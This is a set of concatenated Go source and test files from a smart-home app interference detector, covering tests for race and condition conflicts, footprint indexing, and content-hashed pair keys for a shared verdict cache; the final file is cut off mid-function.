	threats := installApp(t, d, humidify, cfg2)

	ec := hasKind(threats, EnablingCondition)
	if ec == nil {
		for _, th := range threats {
			t.Logf("threat: %s", th)
		}
		t.Fatal("Enabling-Condition interference not detected")
	}
	if ec.R1.App != "MorningHeat" {
		t.Errorf("EC direction R1 = %s", ec.R1.App)
	}
}

// TestUnsatisfiableOverlapSuppressesAR: contradictory actions whose
// situations cannot overlap (disjoint modes) must not be reported.
func TestUnsatisfiableOverlapSuppressesAR(t *testing.T) {
	a := `
definition(name: "AwayLock", namespace: "repro", author: "x",
    description: "Lock when away.", category: "Safety")
input "door1", "capability.lock"
input "motion1", "capability.motionSensor"
def installed() { subscribe(motion1, "motion.inactive", go) }
def go(evt) {
    if (location.mode == "Away") { door1.lock() }
}
`
	b := `
definition(name: "HomeUnlock", namespace: "repro", author: "x",
    description: "Unlock when home.", category: "Convenience")
input "door1", "capability.lock"
input "motion1", "capability.motionSensor"
def installed() { subscribe(motion1, "motion.inactive", go) }
def go(evt) {
    if (location.mode == "Home") { door1.unlock() }
}
`
	d := New(Options{})
	cfg1 := NewConfig()
	cfg1.Devices["door1"] = "dev-door"
	installApp(t, d, a, cfg1)
	cfg2 := NewConfig()
	cfg2.Devices["door1"] = "dev-door"
	threats := installApp(t, d, b, cfg2)
	if ar := hasKind(threats, ActuatorRace); ar != nil {
		t.Errorf("AR reported despite disjoint modes: %s", *ar)
	}
}

func TestTypeLevelIdentityWithoutConfig(t *testing.T) {
	// Store-audit mode: no device IDs; same capability + type ⇒ same device.
	d := New(Options{})
	installApp(t, d, comfortTVSrc, nil)
	threats := installApp(t, d, coldDefenderSrc, nil)
	if ar := hasKind(threats, ActuatorRace); ar == nil {
		t.Fatal("type-level identity should find the Fig. 3 race without config")
	}
}

func TestSolverReuseReducesCalls(t *testing.T) {
	// The SD scenario solves the AR merge first; CT's condition-overlap
	// check reuses it (the Fig. 9 green arrow).
	run := func(opts Options) Stats {
		d := New(opts)
		cfg1 := NewConfig()
		cfg1.Devices["ac1"] = "dev-ac"
		cfg1.DeviceTypes["ac1"] = envmodel.AirConditioner
		installApp(t, d, itsTooHotSrc, cfg1)
		cfg2 := NewConfig()
		cfg2.Devices["ac1"] = "dev-ac"
		cfg2.DeviceTypes["ac1"] = envmodel.AirConditioner
		installApp(t, d, energySaverSrc, cfg2)
		return d.Stats()
	}
	with := run(Options{})
	without := run(Options{DisableReuse: true})
	if with.SolverCalls >= without.SolverCalls {
		t.Errorf("reuse should reduce solver calls: with=%d without=%d",
			with.SolverCalls, without.SolverCalls)
	}
	if with.SolverCacheHits == 0 {
		t.Error("expected cache hits with reuse enabled")
	}
}

func TestChainedThreats(t *testing.T) {
	// CatchLiveShow -> ComfortTV (CT, accepted), then ComfortTV's window
	// opening cools the room -> a heater rule's temperature condition (EC)
	// forms a chain.
	d := New(Options{})
	cfg1 := sharedTVWindowConfig("dev-tv", "dev-window")
	t1 := installApp(t, d, comfortTVSrc, cfg1)
	for _, th := range t1 {
		d.Accept(th)
	}
	cfg2 := NewConfig()
	cfg2.Devices["tv1"] = "dev-tv"
	t2 := installApp(t, d, catchLiveShowSrc, cfg2)
	for _, th := range t2 {
		d.Accept(th)
	}
	heater := `
definition(name: "KeepWarm", namespace: "repro", author: "x",
    description: "Heat when cold.", category: "Comfort")
input "tSensor", "capability.temperatureMeasurement"
input "heater1", "capability.switch"
def installed() { subscribe(tSensor, "temperature", go) }
def go(evt) {
    if (evt.doubleValue < 18) { heater1.on() }
}
`
	cfg3 := NewConfig()
	cfg3.Devices["heater1"] = "dev-heater"
	cfg3.DeviceTypes["heater1"] = envmodel.Heater
	t3 := installApp(t, d, heater, cfg3)
	chains := d.FindChains(t3, 4)
	if len(chains) == 0 {
		for _, th := range t3 {
			t.Logf("new threat: %s", th)
		}
		t.Fatal("expected at least one interference chain")
	}
}

func TestStatsPopulated(t *testing.T) {
	d := New(Options{})
	installApp(t, d, comfortTVSrc, sharedTVWindowConfig("dev-tv", "dev-window"))
	installApp(t, d, coldDefenderSrc, sharedTVWindowConfig("dev-tv", "dev-window"))
	s := d.Stats()
	if s.PairsChecked == 0 || s.SolverCalls == 0 {
		t.Errorf("stats = %+v", s)
	}
	if s.Found[ActuatorRace] == 0 {
		t.Errorf("AR found count = %d", s.Found[ActuatorRace])
	}
}

// TestReconfigureResolvesThreat: re-pointing ColdDefender at a different
// window removes the race; pointing it back restores it.
func TestReconfigureResolvesThreat(t *testing.T) {
	d := New(Options{})
	installApp(t, d, comfortTVSrc, sharedTVWindowConfig("dev-tv", "dev-window"))
	threats := installApp(t, d, coldDefenderSrc, sharedTVWindowConfig("dev-tv", "dev-window"))
	if hasKind(threats, ActuatorRace) == nil {
		t.Fatal("precondition: race expected")
	}
	// The user re-configures ColdDefender to control a different window.
	after, err := d.Reconfigure("ColdDefender", sharedTVWindowConfig("dev-tv", "dev-OTHER-window"))
	if err != nil {
		t.Fatalf("Reconfigure: %v", err)
	}
	if ar := hasKind(after, ActuatorRace); ar != nil {
		t.Errorf("race should disappear after re-binding: %s", *ar)
	}
	// And back again.
	again, err := d.Reconfigure("ColdDefender", sharedTVWindowConfig("dev-tv", "dev-window"))
	if err != nil {
		t.Fatalf("Reconfigure: %v", err)
	}
	if hasKind(again, ActuatorRace) == nil {
		t.Error("race should return with the shared binding")
	}
}

func TestReconfigureUnknownApp(t *testing.T) {
	d := New(Options{})
	got, err := d.Reconfigure("NoSuchApp", nil)
	if !errors.Is(err, ErrAppNotInstalled) {
		t.Errorf("unknown app: err = %v, want ErrAppNotInstalled", err)
	}
	if got != nil {
		t.Errorf("unknown app should return nil threats, got %v", got)
	}
}

func TestKindClass(t *testing.T) {
	if ActuatorRace.Class() != "Action-Interference" ||
		CovertTriggering.Class() != "Trigger-Interference" ||
		DisablingCond.Class() != "Condition-Interference" {
		t.Error("Table I class mapping broken")
	}
}
