package detect

import (
	"crypto/sha256"
	"encoding/binary"
	"sort"
	"strconv"
	"strings"
	"sync"

	"homeguard/internal/envmodel"
	"homeguard/internal/rule"
)

// This file builds the per-app footprint index and the content addresses
// behind the fleet-shared pair-verdict cache. Both are computed once per
// app at Install/Reconfigure time (prepare) and depend only on the app's
// extracted rules, its input declarations and its installation config —
// never on other detector state — so an InstalledApp reused across
// detectors carries the same values.

// prepare attaches the app's compiled rule set (canonical formulas,
// declaration plans, effects, footprint and verdict signature — see
// compile.go), reusing a fleet-shared compilation when another detector
// already compiled the same rule set under a content-equal configuration
// (see compilecache.go). The signature doubles as the cache key suffix,
// so it is computed for every app — pairKey then reads it for free.
func (d *Detector) prepare(app *InstalledApp) {
	sig := appSignature(app)
	key := compileKey{rules: app.Rules}
	copy(key.sig[:], sig)
	comp := compileCacheGet(key)
	if comp == nil {
		comp = d.compile(app)
		comp.sig = sig
		compileCachePut(key, comp)
	}
	app.comp = comp
	app.fp = comp.fp
	app.sig = comp.sig
}

// propKey namespaces an environment property apart from canonical variable
// names (variable names never contain NUL).
func propKey(p envmodel.Property) string { return "prop\x00" + string(p) }

// The app footprint covers, in canonical names: reads — every variable of
// every rule's situation formula, the trigger subscription variable (an
// any-change trigger never appears in the formula but is still a
// covert-triggering channel), and the environment property behind each
// sensed attribute; writes — every device-attribute effect of each action
// plus every environment property the action drives. Each Table I
// detection needs a name written by one rule and read or written by the
// other (see rule.Footprint), so two apps whose footprints share no such
// channel cannot interfere. The footprint is assembled from the compiled
// rule set (footprintFromCompiled in compile.go), so it costs no extra
// canonicalization pass.

// addReadName records a read of a canonical variable plus the environment
// property its attribute suffix senses (the EC/DC and CT environment
// channels match on properties, not variable names).
func addReadName(fp *rule.Footprint, name string) {
	fp.AddRead(name)
	attr := name
	if dot := strings.LastIndexByte(name, '.'); dot >= 0 {
		attr = name[dot+1:]
	}
	if p, ok := envmodel.AttributeProperty(attr); ok {
		fp.AddRead(propKey(p))
	}
}

// PairKey is the content address of an app-pair detection verdict:
// SHA-256 over both apps' canonical rule sets and configuration bindings
// plus the home's mode list. Two homes that installed the same two app
// sources with the same configurations under the same mode universe get
// the same key — and provably the same verdict, since the key covers every
// input the pair detections read.
type PairKey [sha256.Size]byte

// pairKey derives the verdict address for the ordered pair (appA, appB).
// The pair is kept ordered (installation order) so cached threats carry
// R1/R2 in the exact orientation local detection would produce — a
// deliberate tradeoff: homes that reach the same pair in opposite orders
// cache the two orientations separately (at most doubling entries per
// unordered pair) in exchange for sharing verdicts verbatim with no
// threat-rewriting on retrieval. A
// relation tag separates the intra-app domain from the cross-app one:
// two content-identical apps installed as separate instances have equal
// signatures, but their cross verdict (n*n rule pairs, including each
// rule against its own duplicate) differs from the single instance's
// intra verdict (n(n-1)/2 pairs).
func (d *Detector) pairKey(appA, appB *InstalledApp) PairKey {
	h := sha256.New()
	if appA == appB {
		h.Write([]byte{'i'})
	} else {
		h.Write([]byte{'x'})
	}
	// The per-app signatures were precomputed at compile time (prepare),
	// and the mode-list rendering once at New: keying a pair is three
	// writes and one SHA-256 finalization, no re-serialization.
	h.Write(appA.sig)
	h.Write([]byte{0})
	h.Write(appB.sig)
	h.Write([]byte{0})
	h.Write(d.modesSig)
	var k PairKey
	h.Sum(k[:0])
	return k
}

// modesSignature renders the home's mode universe for PairKey hashing,
// each mode length-prefixed for the same no-aliasing reason as
// appSignature.
func modesSignature(modes []string) []byte {
	var out []byte
	for _, m := range modes {
		var n [4]byte
		binary.BigEndian.PutUint32(n[:], uint32(len(m)))
		out = append(out, n[:]...)
		out = append(out, m...)
	}
	return out
}

// appSignature hashes everything about one installed app that pair
// detection reads: its name (the canonical variable prefix), its input
// declarations (capabilities pick device keys and solver domains, titles
// feed device-type guessing), its full rule set, and its installation
// configuration (device bindings, value substitutions, device types).
func appSignature(app *InstalledApp) []byte {
	h := sha256.New()
	// Every string is length-prefixed: configs arrive verbatim from the
	// JSON API and may contain any byte, so delimiter framing would let
	// crafted strings slide across key/value boundaries and alias two
	// different configurations onto one fleet-shared verdict key.
	wr := func(s string) {
		var n [4]byte
		binary.BigEndian.PutUint32(n[:], uint32(len(s)))
		h.Write(n[:])
		h.Write([]byte(s))
	}
	wr(app.Info.Name)
	for _, in := range app.Info.Inputs {
		wr(in.Name)
		wr(in.Type)
		wr(in.Capability)
		wr(in.Title)
		wr(strconv.FormatBool(in.Multiple))
		// Tag bytes fence the variable-length fields so field contents
		// cannot alias across boundaries (Options ["x"] + no default must
		// hash apart from no options + default "x" — options feed solver
		// enum domains, so the two are detection-distinct).
		h.Write([]byte{6})
		for _, o := range in.Options {
			wr(o)
		}
		h.Write([]byte{7})
		if in.Default != nil {
			wr(in.Default.String())
		}
		h.Write([]byte{1})
	}
	rsig := ruleSetSig(app.Rules)
	h.Write(rsig[:])
	h.Write([]byte{2})
	cfg := app.Config
	for _, k := range sortedKeys(cfg.Devices) {
		wr(k)
		wr(cfg.Devices[k])
	}
	h.Write([]byte{3})
	for _, k := range sortedKeys(cfg.Values) {
		wr(k)
		wr(cfg.Values[k].String())
	}
	h.Write([]byte{4})
	for _, k := range sortedKeys(cfg.ValueLists) {
		wr(k)
		for _, v := range cfg.ValueLists[k] {
			wr(v)
		}
		// Terminate each list: {"a": ["b"]} must not alias {"a": [], "b": []}.
		h.Write([]byte{6})
	}
	h.Write([]byte{5})
	for _, k := range sortedKeys(cfg.DeviceTypes) {
		wr(k)
		wr(string(cfg.DeviceTypes[k]))
	}
	return h.Sum(nil)
}

// ruleSetSigs memoizes each rule set's content hash by pointer identity:
// extraction results are cached and shared read-only across homes, so the
// same *RuleSet recurs once per home install and marshaling it each time
// would put an O(rule-set) serialization on the hot path the verdict
// cache exists to flatten. Rule sets are immutable after extraction (the
// contract the whole caching layer rests on). The map is bounded — each
// entry strong-references its rule set, so an unbounded memo would pin
// every app version a long-running process ever saw; on overflow,
// arbitrary entries are dropped and simply recomputed on next use.
const ruleSetSigLimit = 1 << 16

var ruleSetSigs = struct {
	sync.Mutex
	m map[*rule.RuleSet][sha256.Size]byte
}{m: map[*rule.RuleSet][sha256.Size]byte{}}

func ruleSetSig(rs *rule.RuleSet) [sha256.Size]byte {
	ruleSetSigs.Lock()
	sum, ok := ruleSetSigs.m[rs]
	ruleSetSigs.Unlock()
	if ok {
		return sum
	}
	h := sha256.New()
	if b, err := rule.MarshalRuleSet(rs); err == nil {
		h.Write(b)
	} else {
		// Extraction output always marshals; hand-built rule sets that
		// somehow don't still hash via their renderings.
		for _, r := range rs.Rules {
			h.Write([]byte(r.String()))
			h.Write([]byte{0})
		}
	}
	h.Sum(sum[:0])
	ruleSetSigs.Lock()
	for k := range ruleSetSigs.m {
		if len(ruleSetSigs.m) < ruleSetSigLimit {
			break
		}
		delete(ruleSetSigs.m, k)
	}
	ruleSetSigs.m[rs] = sum
	ruleSetSigs.Unlock()
	return sum
}

func sortedKeys[V any](m map[string]V) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}
