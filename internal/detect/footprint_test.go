package detect

import (
	"testing"

	"homeguard/internal/rule"
	"homeguard/internal/symexec"
)

// TestPruningDoesNotChangeFindings: the footprint prune is a pure
// optimization — disabling it must not change which threats the store
// audit reports, only how many pairs reach the solver path.
func TestPruningDoesNotChangeFindings(t *testing.T) {
	apps := storeSubset(t, 25)
	withP, stWith := runAudit(t, apps, Options{})
	apps2 := storeSubset(t, 25)
	withoutP, stWithout := runAudit(t, apps2, Options{DisablePruning: true})
	for _, k := range AllKinds {
		if withP[k] != withoutP[k] {
			t.Errorf("kind %s: pruned=%d unpruned=%d", k, withP[k], withoutP[k])
		}
	}
	if stWith.PairsPruned == 0 {
		t.Error("store audit pruned no pairs; the footprint index is inert")
	}
	if stWithout.PairsPruned != 0 {
		t.Errorf("DisablePruning still pruned %d pairs", stWithout.PairsPruned)
	}
	if stWithout.PairsChecked <= stWith.PairsChecked {
		t.Errorf("disabling pruning should increase pairs checked: %d vs %d",
			stWithout.PairsChecked, stWith.PairsChecked)
	}
}

// TestPruneSoundness is the prune's soundness property: every app pair
// the footprint index declares disjoint (and therefore skips) must be
// threat-free under the full solver path. The audit detector supplies the
// installed footprints; each pruned pair is then re-detected exhaustively
// via detectAppPair, which runs every rule pair through the Table I
// detections with no prune in front.
func TestPruneSoundness(t *testing.T) {
	apps := storeSubset(t, 40)
	d := New(Options{})
	for _, ia := range apps {
		d.Install(ia)
	}
	pruned := 0
	for i := 0; i < len(apps); i++ {
		for j := i + 1; j < len(apps); j++ {
			a, b := apps[i], apps[j]
			if a.fp.SharesChannel(b.fp) {
				continue
			}
			pruned++
			if ts := d.detectAppPair(a, b); len(ts) != 0 {
				t.Errorf("pair (%s, %s) pruned as disjoint but the solver path reports %d threat(s): %v",
					a.Info.Name, b.Info.Name, len(ts), ts)
			}
		}
	}
	if pruned == 0 {
		t.Fatal("no store pair had disjoint footprints; the property was never exercised")
	}
	t.Logf("verified %d pruned pairs threat-free under the full solver path", pruned)
}

// nopVerdicts makes the detector compute verdict signatures (prepare
// fills them only when a cache is configured) without caching anything.
type nopVerdicts struct{}

func (nopVerdicts) Detect(_ PairKey, compute func() []Threat) ([]Threat, bool) {
	return compute(), false
}

// TestPairKeyDeterministicAcrossDetectors: two homes that install the same
// sources with the same configurations and modes must derive the same
// verdict address — that equality is what lets the fleet share verdicts.
func TestPairKeyDeterministicAcrossDetectors(t *testing.T) {
	mkPair := func(t *testing.T, d *Detector, cfgB *Config) (*InstalledApp, *InstalledApp) {
		t.Helper()
		resA, err := symexec.Extract(comfortTVSrc, "")
		if err != nil {
			t.Fatal(err)
		}
		resB, err := symexec.Extract(coldDefenderSrc, "")
		if err != nil {
			t.Fatal(err)
		}
		a := NewInstalledApp(resA, sharedTVWindowConfig("dev-tv", "dev-window"))
		b := NewInstalledApp(resB, cfgB)
		d.Install(a)
		d.Install(b)
		return a, b
	}

	d1 := New(Options{Verdicts: nopVerdicts{}})
	a1, b1 := mkPair(t, d1, sharedTVWindowConfig("dev-tv", "dev-window"))
	d2 := New(Options{Verdicts: nopVerdicts{}})
	a2, b2 := mkPair(t, d2, sharedTVWindowConfig("dev-tv", "dev-window"))
	if d1.pairKey(a1, b1) != d2.pairKey(a2, b2) {
		t.Error("identical installs in two homes derived different pair keys")
	}

	// A different binding for one app must change the address: the configs
	// feed the formulas, so sharing across them would alias distinct
	// verdicts.
	d3 := New(Options{Verdicts: nopVerdicts{}})
	a3, b3 := mkPair(t, d3, sharedTVWindowConfig("dev-tv", "dev-OTHER-window"))
	if d1.pairKey(a1, b1) == d3.pairKey(a3, b3) {
		t.Error("pair key ignores configuration bindings")
	}

	// So must a different mode universe.
	d4 := New(Options{Verdicts: nopVerdicts{}, Modes: []string{"Home", "Away", "Night", "Vacation"}})
	a4, b4 := mkPair(t, d4, sharedTVWindowConfig("dev-tv", "dev-window"))
	if d1.pairKey(a1, b1) == d4.pairKey(a4, b4) {
		t.Error("pair key ignores the home's mode list")
	}

	// And the ordered pair is directional: (A,B) addresses threats with
	// R1/R2 oriented as installation order produced them.
	if d1.pairKey(a1, b1) == d1.pairKey(b1, a1) {
		t.Error("pair key collapsed the pair orientation")
	}

	// Two content-identical instances have equal signatures, but their
	// cross verdict must not be served from the single instance's
	// intra-app entry (the rule-pair sets differ).
	res, err := symexec.Extract(comfortTVSrc, "")
	if err != nil {
		t.Fatal(err)
	}
	d5 := New(Options{Verdicts: nopVerdicts{}})
	copy1 := NewInstalledApp(res, sharedTVWindowConfig("dev-tv", "dev-window"))
	copy2 := NewInstalledApp(res, sharedTVWindowConfig("dev-tv", "dev-window"))
	d5.Install(copy1)
	d5.Install(copy2)
	if string(copy1.sig) != string(copy2.sig) {
		t.Fatal("identical instances should share a signature")
	}
	if d5.pairKey(copy1, copy2) == d5.pairKey(copy2, copy2) {
		t.Error("pair key aliases the cross verdict of duplicate instances with the intra-app verdict")
	}
}

// TestAppSignatureNoFieldAliasing: variable-length signature fields are
// fenced so contents cannot slide across boundaries and alias two
// detection-distinct apps onto one fleet-shared verdict key.
func TestAppSignatureNoFieldAliasing(t *testing.T) {
	base := func() *InstalledApp {
		return &InstalledApp{
			Info: symexec.AppInfo{
				Name:   "A",
				Inputs: []symexec.InputDecl{{Name: "mode1", Type: "enum"}},
			},
			Rules:  &rule.RuleSet{},
			Config: NewConfig(),
		}
	}

	// Enum options feed solver domains; a lone option must not hash like a
	// default value with the same rendering.
	withOption := base()
	withOption.Info.Inputs[0].Options = []string{"x"}
	withDefault := base()
	withDefault.Info.Inputs[0].Default = rule.Var{Name: "x"}
	if string(appSignature(withOption)) == string(appSignature(withDefault)) {
		t.Error("signature aliases Options [x] with Default x")
	}

	// Config value lists are length-fenced per key: {"a": ["b"]} must not
	// hash like {"a": [], "b": []}.
	oneList := base()
	oneList.Config.ValueLists["a"] = []string{"b"}
	twoLists := base()
	twoLists.Config.ValueLists["a"] = nil
	twoLists.Config.ValueLists["b"] = nil
	if string(appSignature(oneList)) == string(appSignature(twoLists)) {
		t.Error(`signature aliases ValueLists {"a": ["b"]} with {"a": [], "b": []}`)
	}

	// Strings are length-prefixed, so config content (which arrives
	// verbatim from the JSON API and may contain any byte) cannot slide
	// across a key/value boundary.
	devA := base()
	devA.Config.Devices["a"] = "b\x00c"
	devB := base()
	devB.Config.Devices["a\x00b"] = "c"
	if string(appSignature(devA)) == string(appSignature(devB)) {
		t.Error(`signature aliases Devices {"a": "b\x00c"} with {"a\x00b": "c"}`)
	}
}

// TestRuleSetSigBounded: the signature memo must not pin every rule set
// a long-running process ever signs.
func TestRuleSetSigBounded(t *testing.T) {
	for i := 0; i < ruleSetSigLimit+64; i++ {
		ruleSetSig(&rule.RuleSet{})
	}
	ruleSetSigs.Lock()
	n := len(ruleSetSigs.m)
	ruleSetSigs.Unlock()
	if n > ruleSetSigLimit {
		t.Errorf("memo holds %d entries, limit is %d", n, ruleSetSigLimit)
	}
}

// TestFootprintCoversDemoChannels spot-checks the computed footprint on a
// demo app: ComfortTV reads the TV switch and temperature and writes the
// window switch.
func TestFootprintCoversDemoChannels(t *testing.T) {
	res, err := symexec.Extract(comfortTVSrc, "")
	if err != nil {
		t.Fatal(err)
	}
	cfg := sharedTVWindowConfig("dev-tv", "dev-window")
	cfg.Devices["tSensor"] = "dev-tSensor"
	ia := NewInstalledApp(res, cfg)
	d := New(Options{})
	d.Install(ia)
	fp := ia.fp
	if fp == nil {
		t.Fatal("Install left the footprint unset")
	}
	for _, read := range []string{"dev-tv.switch", "dev-tSensor.temperature"} {
		if _, ok := fp.Reads[read]; !ok {
			t.Errorf("footprint misses read %q: %s", read, fp)
		}
	}
	if _, ok := fp.Writes["dev-window.switch"]; !ok {
		t.Errorf("footprint misses write dev-window.switch: %s", fp)
	}
	if _, ok := fp.Writes["dev-tv.switch"]; ok {
		t.Errorf("footprint claims ComfortTV writes the TV: %s", fp)
	}
}
