package detect

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"homeguard/internal/corpus"
	"homeguard/internal/envmodel"
	"homeguard/internal/rule"
	"homeguard/internal/symexec"
)

var updateGolden = flag.Bool("update-golden", false, "rewrite testdata/detect_golden.txt from the current detector output")

// goldenTranscript runs a fixed install sequence — a deterministic slice
// of the store corpus under type-level identity plus the demo apps under
// explicit configurations (device bindings, value substitutions, device
// types) — and renders everything the refactor must preserve byte for
// byte: the threats found at each install (kind, rules, property, note),
// the canonical variable names of each witness, and the verdict-cache
// PairKey of every installed app pair.
//
// Witness *values* are deliberately excluded: enum domains accumulate
// observed string values in unspecified order, so the solver's choice of
// witness value is not part of the stability contract — the variable
// names and the sat/unsat verdicts are.
func goldenTranscript(t *testing.T) string {
	t.Helper()
	var b strings.Builder

	d := New(Options{Verdicts: nopVerdicts{}})
	install := func(name string, res *symexec.Result, cfg *Config) {
		ia := NewInstalledApp(res, cfg)
		fmt.Fprintf(&b, "== install %s\n", name)
		for _, th := range d.Install(ia) {
			fmt.Fprintf(&b, "%s\n", th.String())
			if len(th.Witness) > 0 {
				names := make([]string, 0, len(th.Witness))
				for n := range th.Witness {
					names = append(names, n)
				}
				sort.Strings(names)
				fmt.Fprintf(&b, "  witness-vars: %s\n", strings.Join(names, ","))
			}
		}
	}

	// Store slice, type-level identity (nil config).
	store := corpus.StoreAudit()
	if len(store) > 40 {
		store = store[:40]
	}
	for _, a := range store {
		res, err := symexec.Extract(a.Source, "")
		if err != nil {
			t.Fatalf("extract %s: %v", a.Name, err)
		}
		install(a.Name, res, nil)
	}

	// Demo apps under explicit configurations: shared device bindings and
	// a substituted threshold, the Fig. 3-5 deployment.
	demoCfg := map[string]func() *Config{
		"ComfortTV": func() *Config {
			cfg := NewConfig()
			cfg.Devices["tv1"] = "dev-tv"
			cfg.Devices["window1"] = "dev-window"
			cfg.DeviceTypes["tv1"] = envmodel.TV
			cfg.DeviceTypes["window1"] = envmodel.WindowOpener
			cfg.Values["threshold1"] = rule.IntVal(30)
			return cfg
		},
		"ColdDefender": func() *Config {
			cfg := NewConfig()
			cfg.Devices["tv1"] = "dev-tv"
			cfg.Devices["window1"] = "dev-window"
			return cfg
		},
		"ItsTooHot": func() *Config {
			cfg := NewConfig()
			cfg.Devices["ac1"] = "dev-ac"
			cfg.DeviceTypes["ac1"] = envmodel.AirConditioner
			return cfg
		},
		"EnergySaver": func() *Config {
			cfg := NewConfig()
			cfg.Devices["heavyLoads"] = "dev-ac"
			cfg.DeviceTypes["heavyLoads"] = envmodel.AirConditioner
			return cfg
		},
	}
	for _, a := range corpus.ByCategory(corpus.Demo) {
		res, err := symexec.Extract(a.Source, "")
		if err != nil {
			t.Fatalf("extract %s: %v", a.Name, err)
		}
		var cfg *Config
		if mk := demoCfg[a.Name]; mk != nil {
			cfg = mk()
		}
		install(a.Name, res, cfg)
	}

	// Verdict-cache content addresses for every installed pair, intra and
	// cross: same apps + same configs + same modes must keep hashing to
	// the same PairKey across the refactor.
	apps := d.Apps()
	for i := range apps {
		for j := i; j < len(apps); j++ {
			fmt.Fprintf(&b, "pairkey %s|%s %x\n",
				apps[i].Info.Name, apps[j].Info.Name, d.pairKey(apps[i], apps[j]))
		}
	}
	return b.String()
}

// TestGoldenCorpusDetection pins the detector's observable output over a
// fixed corpus: threats, canonical witness variable names and PairKeys
// must be byte-identical across refactors of the detect/solver pipeline.
// Regenerate with: go test ./internal/detect -run Golden -update-golden
func TestGoldenCorpusDetection(t *testing.T) {
	got := goldenTranscript(t)
	path := filepath.Join("testdata", "detect_golden.txt")
	if *updateGolden {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("golden rewritten: %d bytes", len(got))
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden (regenerate with -update-golden): %v", err)
	}
	if got != string(want) {
		gotLines := strings.Split(got, "\n")
		wantLines := strings.Split(string(want), "\n")
		n := len(gotLines)
		if len(wantLines) < n {
			n = len(wantLines)
		}
		for i := 0; i < n; i++ {
			if gotLines[i] != wantLines[i] {
				t.Fatalf("golden mismatch at line %d:\n  got:  %s\n  want: %s", i+1, gotLines[i], wantLines[i])
			}
		}
		t.Fatalf("golden length mismatch: got %d lines, want %d", len(gotLines), len(wantLines))
	}
}
