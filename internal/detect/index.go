package detect

import (
	"sort"

	"homeguard/internal/rule"
)

// FootprintIndex is an inverted index over footprint channels: every
// canonical name some app's rules read or write maps to a posting list of
// the apps touching it, each posting carrying the app's read/write
// membership for that channel as a flag bit. It makes candidate generation
// for pair detection proportional to the actual channel overlap instead
// of the number of installed apps: where the scan path enumerates every
// counterpart and rejects disjoint pairs one by one (the PR 2 footprint
// prune), the index walks only the posting lists of the querying app's
// channels and never materializes a disjoint pair at all.
//
// Candidate semantics mirror rule.Footprint.SharesChannel exactly: app A
// is a candidate counterpart of footprint f iff some name f writes is
// touched (read or written) by A, or some name A writes is touched by f.
// AppendCandidates is therefore sound (it never misses a pair
// SharesChannel would keep) and complete (it never yields a pair
// SharesChannel would prune) — the property test in index_test.go pins
// both directions against the brute-force all-pairs filter.
//
// The index is NOT goroutine-safe; it follows the owning detector's
// serialization contract. Slots are dense app indices assigned by Add in
// call order (the detector keeps them aligned with its install order, the
// audit engine with its input order).
type FootprintIndex struct {
	// chanIDs interns channel names to dense ids; postings[id] holds the
	// packed posting list of that channel: slot<<1 | writeBit. One posting
	// per (channel, app) — an app that both reads and writes a channel
	// carries the write posting, which satisfies read-or-write queries too.
	chanIDs  map[string]int32
	postings [][]int32

	// appChans[slot] lists the channel ids slot posted to, so Update can
	// remove exactly its postings when a reconfigure changes the footprint.
	appChans [][]int32

	// mark/stamp implement O(1)-reset candidate deduplication: a slot is
	// marked for the current query iff mark[slot] == stamp.
	mark  []uint64
	stamp uint64
}

// NewFootprintIndex returns an empty index.
func NewFootprintIndex() *FootprintIndex {
	return &FootprintIndex{chanIDs: map[string]int32{}}
}

// Len returns the number of indexed apps (slots).
func (x *FootprintIndex) Len() int { return len(x.appChans) }

// Add indexes a footprint under the next free slot and returns the slot.
// A nil footprint indexes no channels (such an app is never yielded as a
// candidate — callers that can see nil footprints must not prune on the
// index, mirroring SharesChannel's nil-is-unprunable rule; the detector
// always compiles a footprint before adding).
func (x *FootprintIndex) Add(fp *rule.Footprint) int {
	slot := len(x.appChans)
	x.appChans = append(x.appChans, nil)
	x.mark = append(x.mark, 0)
	x.insert(slot, fp)
	return slot
}

// Update replaces slot's postings with the given footprint (the
// reconfigure path: new config bindings rename the app's channels).
func (x *FootprintIndex) Update(slot int, fp *rule.Footprint) {
	for _, id := range x.appChans[slot] {
		ps := x.postings[id]
		for i, p := range ps {
			if int(p>>1) == slot {
				ps[i] = ps[len(ps)-1]
				x.postings[id] = ps[:len(ps)-1]
				break
			}
		}
	}
	x.insert(slot, fp)
}

// insert posts slot's channels; slot's per-app structures must be empty.
func (x *FootprintIndex) insert(slot int, fp *rule.Footprint) {
	if fp == nil {
		x.appChans[slot] = x.appChans[slot][:0]
		return
	}
	chans := x.appChans[slot][:0]
	for name := range fp.Writes {
		id := x.intern(name)
		x.postings[id] = append(x.postings[id], int32(slot)<<1|1)
		chans = append(chans, id)
	}
	for name := range fp.Reads {
		if _, alsoWritten := fp.Writes[name]; alsoWritten {
			continue // the write posting already covers touch queries
		}
		id := x.intern(name)
		x.postings[id] = append(x.postings[id], int32(slot)<<1)
		chans = append(chans, id)
	}
	x.appChans[slot] = chans
}

func (x *FootprintIndex) intern(name string) int32 {
	if id, ok := x.chanIDs[name]; ok {
		return id
	}
	id := int32(len(x.postings))
	x.chanIDs[name] = id
	x.postings = append(x.postings, nil)
	return id
}

// AppendCandidates appends to buf the sorted slots of every indexed app
// that shares an interference channel with fp — exactly the pairs
// SharesChannel would keep — and returns the extended buffer. The
// querying app's own slot is included when fp overlaps itself and the
// slot is indexed; callers pairing a new app against its predecessors
// query before Add, so self never appears on the install path. Cost is
// proportional to the total length of fp's channels' posting lists, not
// to the number of indexed apps.
func (x *FootprintIndex) AppendCandidates(fp *rule.Footprint, buf []int32) []int32 {
	if fp == nil {
		return buf
	}
	x.stamp++
	base := len(buf)
	// Channels fp writes: any toucher is a counterpart.
	for name := range fp.Writes {
		id, ok := x.chanIDs[name]
		if !ok {
			continue
		}
		for _, p := range x.postings[id] {
			slot := p >> 1
			if x.mark[slot] != x.stamp {
				x.mark[slot] = x.stamp
				buf = append(buf, slot)
			}
		}
	}
	// Channels fp only reads: writers are counterparts (write∩write was
	// covered above, so written names can be skipped here).
	for name := range fp.Reads {
		if _, alsoWritten := fp.Writes[name]; alsoWritten {
			continue
		}
		id, ok := x.chanIDs[name]
		if !ok {
			continue
		}
